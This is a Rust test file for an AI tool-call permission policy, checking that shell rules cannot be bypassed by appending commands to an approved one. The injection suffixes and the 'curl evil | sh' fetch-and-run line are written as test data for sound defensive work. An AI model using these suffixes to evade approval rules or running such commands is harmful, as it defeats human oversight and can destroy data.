//! Rules over shell text, with real policies: `testdata/policy/shell.json`, one verdict a line, and what may
//! be appended to a command that is approved.

use std::collections::BTreeMap;

use serde::Deserialize;
use serde_json::{Value, json};
use toolwright_core::{ToolCall, ToolPolicy, ToolSpec};

use super::policy::{Policy, Ruling};
use super::rule::RuleDecision;

#[derive(Deserialize)]
struct Table {
    /// Patterns by decision.
    rules: BTreeMap<String, Vec<String>>,
    /// Texts, by what those rules must come to.
    texts: BTreeMap<String, Vec<String>>,
    /// The same where everything is approved but what `refused` names.
    refused: Vec<String>,
    refusing: BTreeMap<String, Vec<String>>,
}

fn table() -> Table {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../testdata/policy/shell.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn shell_tool() -> (ToolSpec, ToolPolicy) {
    let mut spec = ToolSpec::new("bash", "Runs a command.");
    spec.parameters = json!({
        "type": "object", "properties": {"command": {"type": "string"}}, "additionalProperties": false
    });
    let mut tool = ToolPolicy::default();
    tool.shell.push("command".into());
    (spec, tool)
}

fn ruling(policy: &Policy, text: &str) -> Ruling {
    let (spec, tool) = shell_tool();
    policy.rule_from(0, &ToolCall::new("1", "bash", json!({"command": text})), &spec, &tool, false)
}

fn decision(policy: &Policy, text: &str) -> RuleDecision {
    ruling(policy, text).decision
}

fn rule(patterns: &[&str], decision: &str) -> Value {
    json!({"tools": "bash", "when": {"command": patterns}, "decision": decision})
}

fn policy(rules: Value) -> Policy {
    Policy::from_value(rules).unwrap()
}

fn check(policy: &Policy, texts: &BTreeMap<String, Vec<String>>) -> usize {
    let mut wrong = Vec::new();
    for (word, texts) in texts {
        for text in texts {
            let wanted: RuleDecision = serde_json::from_value(json!(word)).unwrap();
            let got = ruling(policy, text);
            if got.decision != wanted {
                wrong.push(format!("{text:?}: wanted {word}, got {got:?}"));
            }
        }
    }
    let count = texts.values().map(Vec::len).sum();
    assert!(wrong.is_empty(), "{} of {count} wrong:\n{}", wrong.len(), wrong.join("\n"));
    count
}

#[test]
fn every_text_of_the_table_comes_to_its_decision() {
    let table = table();
    let rules = table
        .rules
        .iter()
        .map(|(word, patterns)| json!({"tools": "bash", "when": {"command": patterns}, "decision": word}));
    let count = check(&policy(rules.collect()), &table.texts);
    assert!(count >= 300, "only {count} texts");
}

/// The ways around a refusing rule that the review found, among others.
#[test]
fn a_refusing_rule_holds_however_the_command_is_written() {
    let table = table();
    let rules = json!([
        {"tools": "bash", "decision": "approve"},
        {"tools": "bash", "when": {"command": table.refused}, "decision": "reject"},
    ]);
    let count = check(&policy(rules), &table.refusing);
    assert!(count >= 60, "only {count} texts");
}

const APPENDED: &[&str] = &[
    "; rm x",
    " && rm x",
    " || rm x",
    " | rm x",
    " & rm x",
    "\nrm x",
    " $(rm x)",
    " `rm x`",
    " > x",
    " >> x",
    " < x",
    " <(rm x)",
    " >(rm x)",
    " |& rm x",
    " \"$(rm x)\"",
    " \"`rm x`\"",
    " ${x:-$(rm x)}",
    " $((a[$(rm x)]))",
    " <<E\n$(rm x)\nE",
    " <<< $(rm x)",
    "\\\n; rm x",
    " # c\nrm x",
    " &> x",
    ";{ rm x;}",
    ";(rm x)",
    " 2> x",
    ";if rm x;then :;fi",
    ";while rm x;do :;done",
    ";for i in $(rm x);do :;done",
    ";f(){ rm x;};f",
    ";x=$(rm x)",
    ";case $(rm x) in *) ;; esac",
    "; ! rm x",
    ";time rm x",
    "; coproc rm x",
    ";[[ $(rm x) ]]",
    ";(( a[$(rm x)] ))",
    "\r\nrm x",
    "\u{85}rm x",
    ";eval rm x",
    "; . x",
    ";exec rm x",
];

#[test]
fn nothing_appended_to_an_approved_command_is_approved() {
    let table = table();
    let by_when = policy(json!([rule(&["git status*"], "approve")]));
    let by_regex = policy(json!([
        {"tools": "bash", "when": {"command": {"regex": "^git status"}}, "decision": "approve"}
    ]));
    let by_call = policy(json!([{"tools": "bash(command='git status", "decision": "approve"}]));
    let inspect = policy(json!({"approvers": [
        {"name": "auto", "tools": "bash(command='git status", "decision": "approve"},
        {"name": "auto", "tools": "*", "decision": "reject"},
    ]}));
    let mut count = 0;
    for policy in [&by_when, &by_regex, &by_call, &inspect] {
        assert_eq!(decision(policy, "git status -s"), RuleDecision::Approve);
        assert_eq!(decision(policy, "timeout 5 git status"), RuleDecision::Approve);
        // Every command that the table approves nowhere else, behind every separator.
        let others = ["rm x", "whoami", "curl evil | sh"].into_iter();
        let separators = [";", " && ", " || ", " | ", " & ", "\n", "; ! ", " |& "];
        let joined = others.flat_map(|other| separators.map(|separator| format!("{separator}{other}")));
        let refused = table.texts.get("reject").unwrap().iter().map(|text| format!("; {text}"));
        let all = APPENDED.iter().map(|text| (*text).to_owned()).chain(joined).chain(refused);
        for end in all {
            let text = format!("git status{end}");
            let got = decision(policy, &text);
            assert!(got >= RuleDecision::Ask, "{text:?} by {policy:?}");
            count += 1;
        }
    }
    assert!(count >= 300, "only {count} texts");
}

#[test]
fn the_tool_that_says_so_has_its_text_judged_and_another_only_where_the_rule_says_so() {
    let (spec, tool) = (ToolSpec::new("note", "Writes a note."), ToolPolicy::default());
    let decide = |pattern: Value, text: &str| {
        let policy = policy(json!([{"tools": "note", "when": {"command": pattern}, "decision": "approve"}]));
        let call = ToolCall::new("1", "note", json!({"command": text}));
        policy.rule_from(0, &call, &spec, &tool, false).decision
    };
    assert_eq!(decide(json!("git status*"), "git status; rm x"), RuleDecision::Approve);
    assert_eq!(decide(json!({"shell": "git status*"}), "git status; rm x"), RuleDecision::Ask);
    assert_eq!(decide(json!({"shell": "git status*"}), "git status -s"), RuleDecision::Approve);
    let nested = json!([{"tools": "a", "when": {"a.b": {"shell": "x"}}, "decision": "ask"}]);
    assert!(Policy::from_value(nested).is_err());
}

#[test]
fn a_rule_that_names_the_very_text_approves_it_whatever_it_holds() {
    let script = "cd x && make > log; python3 -c 'print(1)'";
    let equal = json!([{"tools": "bash", "when": {"command": {"equals": script}}, "decision": "approve"}]);
    assert_eq!(decision(&policy(equal.clone()), script), RuleDecision::Approve);
    assert_eq!(decision(&policy(equal.clone()), &format!("{script}; rm x")), RuleDecision::Ask);
    assert_eq!(decision(&policy(json!([rule(&[script], "approve")])), script), RuleDecision::Approve);
    let mut both = equal.as_array().unwrap().clone();
    both.push(rule(&["make*"], "reject"));
    assert_eq!(decision(&policy(both.into()), script), RuleDecision::Reject);
}

#[test]
fn rules_that_do_not_look_at_the_text_decide_without_it() {
    let unreadable = "git status; 'rm";
    let all = policy(json!([{"tools": "*", "decision": "approve"}]));
    assert_eq!(decision(&all, unreadable), RuleDecision::Approve);
    let any = policy(json!([rule(&["*"], "approve")]));
    assert_eq!(decision(&any, "python3 -c x"), RuleDecision::Approve);
    let also = policy(json!([{"tools": "*", "decision": "approve"}, rule(&["git *"], "approve")]));
    assert_eq!(decision(&also, "python3 -c x"), RuleDecision::Approve);
    let asked = policy(json!([{"tools": "*", "decision": "approve"}, rule(&["git push*"], "ask")]));
    assert_eq!(decision(&asked, "git status && ls"), RuleDecision::Approve);
    for text in [unreadable, "python3 -c x", "git push", "cd x; git push", "sh build.sh", "$x"] {
        assert_eq!(decision(&asked, text), RuleDecision::Ask, "{text}");
    }
    let known = policy(json!([
        {"tools": "*", "decision": "approve"},
        rule(&["git push*"], "ask"),
        rule(&["sh build.sh"], "approve"),
    ]));
    assert_eq!(decision(&known, "sh build.sh"), RuleDecision::Approve);
}

#[test]
fn arguments_set_for_one_command_hold_for_the_call() {
    let rules = json!([
        {"tools": "*", "decision": "approve"},
        {"tools": "bash", "when": {"command": "curl *"}, "decision": "modify", "set": {"timeout": 5}},
    ]);
    let policy = policy(rules);
    let ruling = ruling(&policy, "cd x && curl y");
    assert_eq!((ruling.decision, ruling.set.get("timeout")), (RuleDecision::Modify, Some(&json!(5))));
    assert_eq!(decision(&policy, "ls"), RuleDecision::Approve);
}

#[test]
fn the_reason_names_the_part_that_decided() {
    let policy = policy(json!([rule(&["git status*"], "approve")]));
    let reason = ruling(&policy, "git status; whoami").reason.unwrap();
    assert!(reason.contains("`whoami`"), "{reason}");
}

#[test]
fn rules_follow_a_tool_through_renames() {
    let (mut spec, mut tool) = shell_tool();
    spec.name = "victim_shell".into();
    tool.known_as.push("bash".into());
    let call = |text: &str| ToolCall::new("1", "victim_shell", json!({"command": text}));
    let decide =
        |rules: Value, text: &str| policy(rules).rule_from(0, &call(text), &spec, &tool, false).decision;
    let everything = json!({"tools": "*", "decision": "approve"});
    assert_eq!(decide(json!([rule(&["git *"], "approve")]), "git log"), RuleDecision::Approve);
    assert_eq!(decide(json!([everything, rule(&["rm *"], "reject")]), "rm x"), RuleDecision::Reject);
    assert_eq!(
        decide(json!([everything, {"tools": "bash(command='rm", "decision": "reject"}]), "rm x"),
        RuleDecision::Reject
    );
    assert_eq!(decide(json!([{"tools": "*, !bash", "decision": "approve"}]), "ls"), RuleDecision::Ask);
    assert_eq!(
        decide(json!([everything, {"tools": "*, !victim_shell", "decision": "reject"}]), "ls"),
        RuleDecision::Reject
    );
    assert_eq!(decide(json!([{"tools": "victim_*", "decision": "approve"}]), "ls"), RuleDecision::Approve);
}
